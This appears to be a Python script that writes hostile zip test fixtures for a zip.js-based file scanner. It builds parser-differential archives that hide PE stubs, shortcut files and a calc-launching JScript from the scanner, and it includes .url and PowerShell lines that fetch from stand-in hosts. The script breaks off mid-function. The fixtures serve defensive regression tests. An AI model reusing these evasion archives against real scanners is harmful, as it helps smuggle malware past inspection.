#!/usr/bin/env python3
"""
Writes tests/fixtures/zip_hostile/*.zip: zips built byte by byte whose members
extractors (Python's zipfile, unzip, 7-Zip, bsdtar) unpack otherwise than zip.js lists or
reads them, or not at all. Each came from a review that attacked the zip walk; the tests
in tests/analyse/zip_walk_test.ts hold that none of them is listed as inspected.
Run from the repository's root: python3 scripts/make_hostile_zips.py
"""
import io, os, random, struct, sys, tarfile, zlib

zl = sys.modules[__name__]  # the review scripts call the helpers as zl.NAME
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "fixtures", "zip_hostile")

MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00"*7 + b"\x40" + b"\x00"*35 + b"\x80\x00\x00\x00" + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$" + b"\x00"*7
MZ = MZ + b"\x00"*(0x80-len(MZ)) + b"PE\x00\x00\x4c\x01\x03\x00" + b"\x00"*200
TXT = b"Hello, this is a plain harmless text file.\n" * 4

def lh(name, method, crc, csize, usize, flags=0, extra=b"", ver=20):
    return struct.pack("<IHHHHHIIIHH", 0x04034b50, ver, flags, method, 0, 0x21, crc, csize, usize, len(name), len(extra)) + name + extra

def ch(name, method, crc, csize, usize, offset, flags=0, extra=b"", ver=20, disk=0, ext_attr=0, made=20):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, made, ver, flags, method, 0, 0x21, crc, csize, usize, len(name), len(extra), 0, disk, 0, ext_attr, offset) + name + extra

def eocd(n, cdsize, cdoff, comment=b""):
    return struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, n, n, cdsize, cdoff, len(comment)) + comment

def txt_and_exe():
    """a.txt and a.exe, deflated: their records, and their central records apart."""
    out = b""; cds = []
    for name, data in [(b"a.txt", TXT), (b"a.exe", MZ)]:
        comp = deflate(data); crc = zlib.crc32(data); off = len(out)
        out += lh(name, 8, crc, len(comp), len(data)) + comp
        cds.append(ch(name, 8, crc, len(comp), len(data), off))
    return out, cds

def z64rec(n, cdsize, cdoff):
    return struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, n, n, cdsize, cdoff)

def z64loc(recoff):
    return struct.pack("<IIQI", 0x07064b50, 0, recoff, 1)

def deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()

def simple(members):
    """members: list of (name, data, method) -> standard zip"""
    out = b""; cd = b""
    for name, data, method in members:
        comp = deflate(data) if method == 8 else data
        crc = zlib.crc32(data)
        off = len(out)
        out += lh(name, method, crc, len(comp), len(data)) + comp
        cd += ch(name, method, crc, len(comp), len(data), off)
    return out + cd + eocd(len(members), len(cd), len(out))


def write(name, zipbytes):
    with open(os.path.join(OUT, "%s.zip" % name), "wb") as f:
        f.write(zipbytes)


def make_unread():
    # the local header's sizes differ from the central directory's: zip.js refuses to read the
    # member (ambiguous archive), so it is listed with no sniff - and no problem is reported.
    T = TXT * 4
    EVIL = MZ
    crc = zlib.crc32(EVIL)
    rec = lh(b"a.txt", 0, crc, len(EVIL), len(EVIL)) + EVIL + b"\0" * (len(T) - len(EVIL))
    cd = ch(b"a.txt", 0, crc, len(T), len(T), 0)
    write("unread", rec + cd + eocd(1, len(cd), len(rec)))


def make_overlong():
    # in.zip is deflated; its headers declare len(zipA) bytes and the CRC of zipA, but the deflate
    # stream inflates to zipA + a tail that makes the whole a different zip (zipB: readme.txt).
    # Python stops at the declared size (zipA: evil.exe); zip.js hands on everything it inflates.
    zipA = simple([(b"evil.exe", MZ, 8)])
    base = len(zipA)
    tail_member = lh(b"readme.txt", 0, zlib.crc32(TXT), len(TXT), len(TXT)) + TXT
    tcd = ch(b"readme.txt", 0, zlib.crc32(TXT), len(TXT), len(TXT), base)
    full = zipA + tail_member + tcd + eocd(1, len(tcd), base + len(tail_member))
    comp = deflate(full)
    crc = zlib.crc32(zipA)
    rec = lh(b"in.zip", 8, crc, len(comp), len(zipA)) + comp
    cd = ch(b"in.zip", 8, crc, len(comp), len(zipA), 0)
    write("overlong", rec + cd + eocd(1, len(cd), len(rec)))


def make_overlong3():
    # in.zip (deflated) declares L = len(zipA) bytes and zipA's CRC; its deflate stream inflates to
    # zipA + 100 bytes. zip.js hands on only its first 256 KiB chunk before it sees the size is
    # wrong, and qmvc walks those 262,144 bytes as a zip: they end with the end record of a small
    # zip hidden inside zipA's stored pad member (readme.txt). Python and 7-Zip give in.zip as
    # the declared L bytes: zipA, with evil.exe.
    CH = 262144
    random.seed(11)
    evil_rec = lh(b"evil.exe", 0, zlib.crc32(MZ), len(MZ), len(MZ)) + MZ
    pad_name = b"pad.txt"
    pad_hdr_len = 30 + len(pad_name)
    pad_start = len(evil_rec) + pad_hdr_len            # where pad.txt's data begins in zipA
    # zipC, inside pad: readme.txt's local header, then zipC's directory and end record ending at CH
    c_member_off = pad_start + 1000
    c_member = lh(b"readme.txt", 0, zlib.crc32(TXT), len(TXT), len(TXT)) + TXT
    c_cd = ch(b"readme.txt", 0, zlib.crc32(TXT), len(TXT), len(TXT), c_member_off)
    c_eocd = eocd(1, len(c_cd), CH - 22 - len(c_cd))
    pad_len = 320000
    pad = bytearray(bytes(random.choice(b"abcdefghijklmnop \n") for _ in range(pad_len)))
    def put(at_abs, data):
        pad[at_abs - pad_start: at_abs - pad_start + len(data)] = data
    put(c_member_off, c_member)
    put(CH - 22 - len(c_cd), c_cd + c_eocd)
    pad = bytes(pad)
    pad_rec = lh(pad_name, 0, zlib.crc32(pad), len(pad), len(pad)) + pad
    A_cd = ch(b"evil.exe", 0, zlib.crc32(MZ), len(MZ), len(MZ), 0) + ch(pad_name, 0, zlib.crc32(pad), len(pad), len(pad), len(evil_rec))
    zipA = evil_rec + pad_rec + A_cd + eocd(2, len(A_cd), len(evil_rec) + len(pad_rec))
    full = zipA + b"\0" * 100
    comp = deflate(full)
    rec = lh(b"in.zip", 8, zlib.crc32(zipA), len(comp), len(zipA)) + comp
    cd = ch(b"in.zip", 8, zlib.crc32(zipA), len(comp), len(zipA), 0)
    write("overlong3", rec + cd + eocd(1, len(cd), len(rec)))


def make_budget2():
    # A well-formed zip (no overlap, every extractor happy): 1,030 text members of 64 KiB that
    # deflate ~150:1 spend the 64 MiB expansion budget; the last member, z.txt, is a PE and is
    # never read (readHead with max 0), and nothing says so: pass (clean).
    random.seed(2)
    out = b""; cd = b""; n = 0
    for i in range(1030):
        t = bytearray(b"a" * 65536)
        for j in range(0, 65000, 500):
            t[j + random.randint(0, 400)] = random.choice(b"bcdefghij")
        t = bytes(t)
        comp = deflate(t)
        assert 20 < len(t) / len(comp) < 200, len(t) / len(comp)
        name = b"f%04d.txt" % i
        crc = zlib.crc32(t)
        cd += ch(name, 8, crc, len(comp), len(t), len(out))
        out += lh(name, 8, crc, len(comp), len(t)) + comp; n += 1
    cd += ch(b"z.txt", 0, zlib.crc32(MZ), len(MZ), len(MZ), len(out))
    out += lh(b"z.txt", 0, zlib.crc32(MZ), len(MZ), len(MZ)) + MZ; n += 1
    write("budget2", out + cd + eocd(n, len(cd), len(out)))


def make_broken():
    # N central entries all point at one deflated member of 64 KiB whose deflate stream is cut
    # just before its end: every entry is inflated twice (zlib, then zip.js), never charged to the
    # expansion budget (nothing is returned), and listed unsniffed, with no problem reported.
    N = 100
    random.seed(3)
    t = bytes(random.choice(b"abcdefgh      ") for _ in range(65536))
    comp = deflate(t)
    cut = comp[:-8]     # the stream ends short
    crc = zlib.crc32(t)
    out = lh(b"f.txt", 8, crc, len(cut), len(t)) + cut
    one = ch(b"f.txt", 8, crc, len(cut), len(t), 0)
    cd = one * N
    z = out + cd + eocd(min(N, 0xFFFF), len(cd), len(out))
    write("broken%d" % N, z)


def make_z64count():
    # zip64 end record says 1 entry, its directory size covers 2: zip.js lists a.txt only (no
    # "wrapped count" recovery under zip64); Python reads the directory by its size and extracts
    # evil.exe too.
    T = TXT
    r1 = lh(b"a.txt", 0, zlib.crc32(T), len(T), len(T), ver=45) + T
    r2 = lh(b"evil.exe", 0, zlib.crc32(MZ), len(MZ), len(MZ), ver=45) + MZ
    out = r1 + r2
    cd = ch(b"a.txt", 0, zlib.crc32(T), len(T), len(T), 0, ver=45, made=45) + \
         ch(b"evil.exe", 0, zlib.crc32(MZ), len(MZ), len(MZ), len(r1), ver=45, made=45)
    C = len(out); out += cd
    Z = len(out)
    out += struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, 1, 1, len(cd), C)
    out += struct.pack("<IIQI", 0x07064b50, 0, Z, 1)
    out += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    write("z64count", out)


def make_z64dup():
    # The central entry's offset is 0xFFFFFFFF and its extra field holds TWO zip64 records.
    # zip.js keeps the last (a Map), Python/unzip/libarchive the first.
    T = TXT * 4
    EVIL = (MZ + b"\0" * len(T))[:len(T)]
    crc = zlib.crc32(EVIL)
    good = lh(b"a.txt", 0, crc, len(T), len(T), ver=45) + T
    evil_off = len(good)
    evil = lh(b"a.txt", 0, crc, len(T), len(T), ver=45) + EVIL
    out = good + evil
    extra = struct.pack("<HHQ", 1, 8, evil_off) + struct.pack("<HHQ", 1, 8, 0)
    cd = ch(b"a.txt", 0, crc, len(T), len(T), 0xFFFFFFFF, extra=extra, ver=45, made=45)
    write("z64dup", out + cd + eocd(1, len(cd), len(out)))


def make_shift3():
    # Entry 1 has a local header both where its offset says and `delta` further on; entry 2 only
    # where its offset says. zip.js's probe stops at entry 2 and decides "no prepended data";
    # unzip and Python shift entry 1 by the central directory's displacement (a stub's length).
    T = TXT * 4
    EVIL = (MZ + b"\0" * len(T))[:len(T)]
    crc_t, crc_e = zlib.crc32(T), zlib.crc32(EVIL)
    r1 = lh(b"a.txt", 0, crc_e, len(T), len(T)) + T
    r2 = lh(b"b.txt", 0, crc_t, len(T), len(T)) + T
    L = len(r1)
    r1evil = lh(b"a.txt", 0, crc_e, len(T), len(T)) + EVIL
    out = r1 + r2 + r1evil          # r1evil at 2L
    delta = 2 * L
    cd = ch(b"a.txt", 0, crc_e, len(T), len(T), 0) + ch(b"b.txt", 0, crc_t, len(T), len(T), L)
    assert len(out) == 3 * L        # the CD sits at O2 + delta: no local header there
    write("shift3", out + cd + eocd(2, len(cd), len(out) - delta))


def make_z64eocd():
    # Two zip64 end records: the locator points at A (-> central directory 1: a.txt, text); the one
    # right before the locator, B, names central directory 2 (a.txt, a PE). zip.js follows the
    # locator; Python reads the record before the locator.
    T = TXT * 4
    EVIL = (MZ + b"\0" * len(T))[:len(T)]
    good = lh(b"a.txt", 0, zlib.crc32(T), len(T), len(T), ver=45) + T
    evil_off = len(good)
    evil = lh(b"a.txt", 0, zlib.crc32(EVIL), len(T), len(T), ver=45) + EVIL
    out = good + evil
    cd1 = ch(b"a.txt", 0, zlib.crc32(T), len(T), len(T), 0, ver=45, made=45, extra=b"\xfe\xca\x00\x00")
    cd2 = ch(b"a.txt", 0, zlib.crc32(EVIL), len(T), len(T), evil_off, ver=45, made=45)
    def z64eocd(n, size, off):
        return struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, n, n, size, off)
    C1 = len(out); out += cd1
    A = len(out); out += z64eocd(1, len(cd1), C1)
    C2 = len(out); out += cd2
    B = len(out); out += z64eocd(1, len(cd2), C2)
    out += struct.pack("<IIQI", 0x07064b50, 0, A, 1)
    out += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    write("z64eocd", out)


def make_upath():
    # raw name "run.js", an Info-ZIP Unicode Path extra (0x7075, CRC of the raw name correct) saying
    # "run.txt": zip.js lists run.txt; which extractors write run.js?
    JS = b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc.exe");\n'
    raw = b"run.js"
    up = struct.pack("<HHBI", 0x7075, 5 + len(b"run.txt"), 1, zlib.crc32(raw)) + b"run.txt"
    crc = zlib.crc32(JS)
    rec = lh(raw, 0, crc, len(JS), len(JS), extra=up)
    cd = ch(raw, 0, crc, len(JS), len(JS), 0, extra=up)
    write("upath", rec + JS + cd + eocd(1, len(cd), len(rec) + len(JS)))


def make_dirattr():
    # Member "invoice.exe" (a PE) whose central directory external attributes say "directory":
    # zip.js marks it directory -> qmvc's walkZip skips it (not listed, not sniffed).
    def build(name, ext_attr, made, tag):
        out = b""; cd = b""
        members = [(b"readme.txt", zl.TXT, 0, 0x20), (name, zl.MZ, ext_attr, None)]
        for nm, data, attr, _ in members:
            comp = zl.deflate(data); crc = zlib.crc32(data); off = len(out)
            out += zl.lh(nm, 8, crc, len(comp), len(data)) + comp
            cd += zl.ch(nm, 8, crc, len(comp), len(data), off, ext_attr=attr, made=made)
        zl.write(tag, out + cd + zl.eocd(2, len(cd), len(out)))
    build(b"invoice.exe", 0x41ED0000, 20, "dir_upper_dos")      # host MS-DOS, upper 16 bits S_IFDIR
    build(b"invoice.exe", 0x00000010, 20, "dir_dosbit")          # host MS-DOS, DOS directory bit
    build(b"invoice.exe", 0x41ED0000, 0x031e, "dir_upper_unix") # host Unix, S_IFDIR
    build(b"invoice.exe", 0x00000010, 0x0a3f, "dir_dosbit_ntfs")   # host NTFS (10), DOS directory bit


def make_z64mismatch2():
    # Bypass: EOCD declares 1 entry and one entry's directory size, with its directory offset
    # saturated (0xFFFFFFFF) so the zip64 end record is read; that record declares 2 entries.
    # zip.js keeps the EOCD's count and warns "mismatched zip64 end of central directory record";
    # qmvc's AMBIGUOUS_WARNINGS has "mismatched zip64 end of central directory" (no " record"),
    # so the warning is never matched. The zip64 record claims 'extensible data' as long as the
    # hidden directory entry, so zip.js puts the directory's end at the hidden entry's start
    # and raises no "trailing central directory data". A padding member places the zip64 record
    # at 0x10000 so zip.js's parse of that 'extensible data' (really the locator) stays below
    # 2^53; an archive comment makes the bytes after the record long enough for that claim. Python's zipfile (which takes the zip64 record just before the locator) and 7-Zip
    # list and extract both members; qmvc lists only readme.txt.
    members = [(b"readme.txt", zl.TXT, 8), (b"pad.txt", None, 0), (b"invoice.exe", zl.MZ, 8)]
    def assemble(padlen):
        out = b""; e = []
        for nm, data, method in members:
            if data is None: data = b"x" * padlen
            comp = zl.deflate(data) if method == 8 else data
            crc = zlib.crc32(data); off = len(out)
            out += zl.lh(nm, method, crc, len(comp), len(data)) + comp
            e.append(zl.ch(nm, method, crc, len(comp), len(data), off))
        return out, e
    out, e = assemble(0)
    z64target = 0x10000
    padlen = z64target - (len(out) + sum(map(len, e)))
    out, e = assemble(padlen)
    cdoff = len(out); visible = e[0] + e[1]; cd = visible + e[2]
    z64off = cdoff + len(cd); assert z64off == z64target, hex(z64off)
    z64 = struct.pack("<IQHHIIQQQQ", 0x06064b50, 44 + len(e[2]), 45, 45, 0, 0, 3, 3, len(cd), cdoff)
    loc = struct.pack("<IIQI", 0x07064b50, 0, z64off, 1)
    comment = b"Scanned documents, see readme.txt please."
    eocd = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 2, 2, len(visible), 0xFFFFFFFF, len(comment)) + comment
    zl.write("z64mismatch2", out + cd + z64 + loc + eocd)


def make_upath_local():
    # As b_upath_local2.py, with several name-rule extensions whose content may not be sniffed.
    cases = {
      "reg": b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Example]\r\n\"a\"=\"b\"\r\n",
    }
    unused = {
      "hta": b"<html><head><title>Invoice</title></head><body><p>Invoice 2026-11</p></body></html>\n",
      "ps1": b"$u = 'https://example.invalid/a'\nInvoke-WebRequest $u -OutFile $env:TEMP\\a.txt\n",
      "reg": b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Example]\r\n\"a\"=\"b\"\r\n",
      "url": b"[InternetShortcut]\r\nURL=https://example.invalid/\r\n",
    }
    for ext, data in cases.items():
        raw = b"invoice.txt"; uni = b"invoice." + ext.encode()
        comp = zl.deflate(data); crc = zlib.crc32(data)
        extra = struct.pack("<HHBI", 0x7075, 5 + len(uni), 1, zlib.crc32(raw)) + uni
        out = zl.lh(raw, 8, crc, len(comp), len(data), extra=extra) + comp
        cd = zl.ch(raw, 8, crc, len(comp), len(data), 0)
        zl.write("upath_local_" + ext, out + cd + zl.eocd(1, len(cd), len(out)))


def make_z64split():
    # Finding 1: agreeingZip64End checks the zip64 record's entry count and that *some* run of
    # central records ends at it, but never that its CD offset/size are the end record's.
    # zip.js follows the 32-bit end record (txt); Python/unzip/7z/bsdtar may follow the zip64 one (exe).
    def build(variant):
        out, cds = txt_and_exe()
        cdoff_txt = len(out); cdoff_exe = cdoff_txt + len(cds[0])
        cd = cds[0] + cds[1]
        rec = cdoff_txt + len(cd)
        if variant == "a":   # EOCD: 1 entry at txt, size of txt record
            e = eocd(1, len(cds[0]), cdoff_txt)
        else:                # EOCD: 1 entry at txt, size of both
            e = eocd(1, len(cd), cdoff_txt)
        return out + cd + z64rec(1, len(cds[1]), cdoff_exe) + z64loc(rec) + e
    write("f1a", build("a"))
    write("f1b", build("b"))


def make_comment_eocd():
    # Finding 2: an end record + zip64 locator/record + central record hidden in the real end
    # record's comment. zip.js takes the real end record (the fake one's directory is not
    # "reachable"); Python's zipfile takes the last 22 bytes (the fake), follows its zip64 record.
    def build(trailing):
        out, cds = txt_and_exe()
        cdoff = len(out)
        cd = cds[0] + (cds[1] if trailing else b"")   # trailing: exe record after txt, count says 1
        real_eocd_at = cdoff + len(cd)
        copy_at = real_eocd_at + 22
        rec_at = copy_at + len(cds[1])
        comment = cds[1] + z64rec(1, len(cds[1]), copy_at) + z64loc(rec_at)
        # fake end record: count 1, its 32-bit size/offset point at nothing
        comment += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, 1, 1, 0)
        return out + cd + eocd(1, len(cd), cdoff, comment)
    write("f2a", build(False))
    write("f2b", build(True))


def make_comment_fools():
    # agreeingZip64End takes the last end-record signature, even one inside the comment: an empty
    # zip64 record + locator + end record in the comment (0 entries, directory == record) makes the
    # check pass, and zip.js's "trailing central directory data" (an exe record after the txt one,
    # count 1) is dropped. f2c_ctl: same zip without the comment -> unchecked.
    def build(with_comment):
        out, cds = txt_and_exe()
        cdoff = len(out); cd = cds[0] + cds[1]
        rec_at = cdoff + len(cd) + 22
        comment = b""
        if with_comment:
            comment = struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, 0, 0, 0, rec_at)
            comment += struct.pack("<IIQI", 0x07064b50, 0, rec_at, 1)
            comment += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 0, 0, 0, 0, 7) + b"padding"
        return out + cd + eocd(1, len(cd), cdoff, comment)
    write("f2c", build(True)); write("f2c_ctl", build(False))


def make_upath_nonascii():
    # Finding 3: a raw name whose extension is not ASCII switches the Unicode Path comparison
    # off for both the central and the local field. zip.js takes the central field (a.txt),
    # bsdtar the local one (a.url): a name-only rule never sees .url.
    URL = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\nIconIndex=0\r\n"
    def upath(raw, name, crc=None):
        d = struct.pack("<BI", 1, zlib.crc32(raw) if crc is None else crc) + name
        return struct.pack("<HH", 0x7075, len(d)) + d
    def build(raw, central_name, local_name, data=URL):
        comp = deflate(data); crc = zlib.crc32(data)
        cx = upath(raw, central_name) if central_name else b""
        lx = upath(raw, local_name) if local_name else b""
        l = lh(raw, 8, crc, len(comp), len(data), extra=lx) + comp
        c = ch(raw, 8, crc, len(comp), len(data), 0, extra=cx)
        return l + c + eocd(1, len(c), len(l))
    write("f3a", build(b"a.\x82", b"a.txt", b"a.url"))          # raw ext non-ASCII
    write("f3b", build(b"a.url\xff", b"a.txt", b"a.url"))       # raw ext 'url\xff'
    write("f3c", build(b"a.txt", b"a.txt", b"a.url"))           # control: ASCII raw ext -> flagged


def make_dirs_with_data():
    # Directory rule probes: names ending in "/" or "\\" that carry data, with/without dir attributes.
    URL = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\nIconIndex=0\r\n"
    def one(name, made, ext_attr, data=URL, also=True):
        out=b""; cd=b""
        items=[(name, data, made, ext_attr)]
        if also: items.append((b"readme.txt", TXT, 20, 0))
        for n, d, m, a in items:
            comp = deflate(d); crc = zlib.crc32(d); off=len(out)
            out += lh(n, 8, crc, len(comp), len(d)) + comp
            cd += ch(n, 8, crc, len(comp), len(d), off, ext_attr=a, made=m)
        return out + cd + eocd(len(items), len(cd), len(out))
    write("f4a", one(b"a.url/", 20, 0))                       # slash, file attrs (DOS)
    write("f4b", one(b"a.url\\", 20, 0x10))                   # backslash, DOS dir bit, made-by DOS
    write("f4c", one(b"a.url\\", 0x300|20, (0o040755<<16)))   # backslash, unix dir mode
    write("f4d", one(b"a.url/", 0x300|20, (0o100644<<16)))    # slash, unix regular-file mode
    write("f4e", one(b"a.url\\", 0x0b00|20, 0x10))            # backslash, NTFS host, dir bit
    write("f4f", one(b"a.exe\\", 20, 0x10, data=MZ))          # backslash PE


def make_eocd_not_closing():
    # g1: a second end record inside the real end record's comment that does NOT end the file
    # (one trailing byte after it). zip.js only takes end records that close the file (the real one,
    # a.txt); endRecordsClosingTheFile counts one. Python's zipfile rfind()s the last signature
    # in the tail regardless of its comment length, and reads the directory right before it: a.exe.
    out, cds = txt_and_exe()
    cdoff = len(out)
    real_at = cdoff + len(cds[0])
    copy_at = real_at + 22
    for tail, tag in [(b"\x00", "a"), (b"", "b_ctl")]:
        fake = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, len(cds[1]), copy_at, 0)
        comment = cds[1] + fake + tail
        write("g1" + tag, out + cds[0] + eocd(1, len(cds[0]), cdoff, comment))


def make_appended():
    # g2: the real end record (a.txt, no comment) is followed by appended data: a.exe's central
    # record and an end record for it. zip.js scans for records closing the file, finds none,
    # then takes the last reachable one; g2a makes the appended one unreachable for zip.js
    # (count 0xFFFF, no zip64 locator), which Python ignores (it reads size_cd bytes).
    # zip.js only warns "appended data", which qmvc does not count as ambiguous.
    out, cds = txt_and_exe()
    cdoff = len(out)
    real = out + cds[0] + eocd(1, len(cds[0]), cdoff)
    copy_at = len(real)
    for n, tail, tag in [(0xffff, b"", "a"), (0xffff, b"\x00", "b"), (1, b"\x00", "c")]:
        fake = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, n, n, len(cds[1]), copy_at, 0)
        write("g2" + tag, real + cds[1] + fake + tail)


def make_empty_eocd():
    # g3: an end record that says "no entries" over a zip holding a.exe.
    comp = deflate(MZ); crc = zlib.crc32(MZ)
    loc = lh(b"a.exe", 8, crc, len(comp), len(MZ)) + comp
    cd = ch(b"a.exe", 8, crc, len(comp), len(MZ), 0)
    write("g3a", loc + cd + eocd(0, 0, len(loc)))              # count 0, size 0
    write("g3b", loc + cd + eocd(0, len(cd), len(loc)))        # count 0, size right
    write("g3c", loc + eocd(0, 0, len(loc)))                   # no CD at all: local header only
    write("g3d", loc + cd + eocd(0, 0, 0))                   


def make_orphan_local():
    # g4: a.exe's local record is in the zip but no central record lists it.
    def mem(name, data):
        comp = deflate(data); crc = zlib.crc32(data)
        return comp, crc
    ct, crct = mem(b"a.txt", TXT); ce, crce = mem(b"a.exe", MZ)
    lt = lh(b"a.txt", 8, crct, len(ct), len(TXT)) + ct
    le = lh(b"a.exe", 8, crce, len(ce), len(MZ)) + ce
    # a: orphan after a.txt
    body = lt + le; cd = ch(b"a.txt", 8, crct, len(ct), len(TXT), 0)
    write("g4a", body + cd + eocd(1, len(cd), len(body)))
    # b: orphan first, a.txt second
    body = le + lt; cd = ch(b"a.txt", 8, crct, len(ct), len(TXT), len(le))
    write("g4b", body + cd + eocd(1, len(cd), len(body)))
    # c: some junk, then the orphan, then a.txt (an "SFX stub" that is a local record)
    for tag, pre in [("c", b"JUNKJUNKJU"), ("d", b"MZ" + b"\x00" * 2000)]:
        body = pre + le + lt; cd = ch(b"a.txt", 8, crct, len(ct), len(TXT), len(pre) + len(le))
        write("g4" + tag, body + cd + eocd(1, len(cd), len(body)))
    # e: offsets in the directory relative to the zip's start, as an SFX maker that did not fix them
    body = le + lt; cd = ch(b"a.txt", 8, crct, len(ct), len(TXT), 0)
    write("g4e", body + cd + eocd(1, len(cd), len(lt)))


def make_nul_names():
    # g5: names with a NUL: Python cuts the name at the NUL (a.url), qmvc drops the NUL (a.url.txt).
    URL = b"[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n"
    write("g5a", simple([(b"a.url\x00.txt", URL, 8)]))
    write("g5b", simple([(b"a.exe\x00.txt", MZ, 0)]))
    write("g5c", simple([(b"a.url\x00", URL, 8)]))


def make_z64_two_records():
    # g6: two zip64 end records. The locator points at R1 (a.txt's directory); R2 (a.exe's)
    # lies right before the locator. zip.js follows the locator; Python reads the record right
    # before the locator, and the directory right before it.
    # R1 says its directory starts on "disk 1" (zip.js then takes its offset and length as
    # they are, no reconciling, no trailing-data warning); the end record's disk field is 0xFFFF.
    def z64rec(n, cdsize, cdoff, disk=0):
        return struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, disk, n, n, cdsize, cdoff)
    def z64loc(recoff):
        return struct.pack("<IIQI", 0x07064b50, 0, recoff, 1)
    out, cds = txt_and_exe()
    for tag, r1disk, eocddisk in [("a", 1, 0xffff), ("b", 0, 0xffff), ("c", 0, 0)]:
        z = out
        cd1 = len(z); z += cds[0]
        r1 = len(z); z += z64rec(1, len(cds[0]), cd1, r1disk)
        cd2 = len(z); z += cds[1]
        r2 = len(z); z += z64rec(1, len(cds[1]), cd2)
        z += z64loc(r1)
        z += struct.pack("<IHHHHIIH", 0x06054b50, 0, eocddisk, 1, 1, len(cds[0]), cd1, 0)
        write("g6" + tag, z)


def make_streaming_hidden():
    # Members that only streaming readers (Java's ZipInputStream, bsdtar reading a pipe) see:
    # they walk the local records one after another and never read the directory.
    hidden = lh(b"evil.exe", 0, zlib.crc32(MZ), len(MZ), len(MZ)) + MZ
    txt = lh(b"a.txt", 0, zlib.crc32(TXT), len(TXT), len(TXT)) + TXT
    # stream_gap_end: a record between the last member's data and the directory.
    cd = ch(b"a.txt", 0, zlib.crc32(TXT), len(TXT), len(TXT), 0)
    write("stream_gap_end", txt + hidden + cd + eocd(1, len(cd), len(txt + hidden)))
    # stream_gap_between: a record between two listed members.
    b = lh(b"b.txt", 0, zlib.crc32(TXT), len(TXT), len(TXT)) + TXT
    cd = ch(b"a.txt", 0, zlib.crc32(TXT), len(TXT), len(TXT), 0) + \
        ch(b"b.txt", 0, zlib.crc32(TXT), len(TXT), len(TXT), len(txt + hidden))
    write("stream_gap_between", txt + hidden + b + cd + eocd(2, len(cd), len(txt + hidden + b)))
    # stream_deflate_short: a member with a data descriptor whose deflate stream (and the
    # descriptor after it) ends inside the size the directory declares; a record follows.
    comp = deflate(TXT); crc = zlib.crc32(TXT)
    data = comp + struct.pack("<IIII", 0x08074b50, crc, len(comp), len(TXT)) + hidden
    rec = lh(b"a.txt", 8, 0, 0, 0, flags=8) + data
    cd = ch(b"a.txt", 8, crc, len(data), len(TXT), 0, flags=8)
    write("stream_deflate_short", rec + cd + eocd(1, len(cd), len(rec)))
    # stream_stored_descriptor: a stored member with a data descriptor; inside its declared
    # data, a descriptor giving the size read so far (bsdtar ends the member there), a record.
    whole = TXT + struct.pack("<IIII", 0x08074b50, crc, len(TXT), len(TXT)) + hidden
    rec = lh(b"a.txt", 0, 0, 0, 0, flags=8) + whole
    cd = ch(b"a.txt", 0, zlib.crc32(whole), len(whole), len(whole), 0, flags=8)
    write("stream_stored_descriptor", rec + cd + eocd(1, len(cd), len(rec)))
    # stream_stored_any_descriptor: the same with a descriptor of zeroes and some bytes
    # before the record: bsdtar ends the member at any descriptor signature and looks on
    # for the next record.
    whole = TXT + b"PK\x07\x08" + b"\0" * 12 + b"xxxxx" + hidden
    rec = lh(b"a.txt", 0, 0, 0, 0, flags=8) + whole
    cd = ch(b"a.txt", 0, zlib.crc32(whole), len(whole), len(whole), 0, flags=8)
    write("stream_stored_any_descriptor", rec + cd + eocd(1, len(cd), len(rec)))
    # stream_stored_in_inner_member: the descriptor and the record inside the data of a
    # stored member of a zip stored in the zip: where bsdtar stops, no record of that zip ends.
    inner_data = TXT + b"PK\x07\x08" + b"\0" * 12 + hidden
    inner_rec = lh(b"notes.txt", 0, zlib.crc32(inner_data), len(inner_data), len(inner_data)) + inner_data
    inner_cd = ch(b"notes.txt", 0, zlib.crc32(inner_data), len(inner_data), len(inner_data), 0)
    inner = inner_rec + inner_cd + eocd(1, len(inner_cd), len(inner_rec))
    rec = lh(b"inner.zip", 0, 0, 0, 0, flags=8) + inner
    desc = struct.pack("<IIII", 0x08074b50, zlib.crc32(inner), len(inner), len(inner))
    cd = ch(b"inner.zip", 0, zlib.crc32(inner), len(inner), len(inner), 0, flags=8)
    write("stream_stored_in_inner_member", rec + desc + cd + eocd(1, len(cd), len(rec + desc)))


def crc_forge(data, target):
    """Four bytes that, appended to data, make its CRC-32 `target`."""
    table = []
    rev = {}
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        table.append(c)
        rev[c >> 24] = i
    state = zlib.crc32(data) ^ 0xFFFFFFFF
    t = target ^ 0xFFFFFFFF
    idx = []
    for _ in range(4):
        i = rev[t >> 24]
        idx.append(i)
        t = ((t ^ table[i]) << 8) & 0xFFFFFFFF
    out = bytearray()
    for i in reversed(idx):
        out.append((state ^ i) & 0xFF)
        state = (state >> 8) ^ table[i]
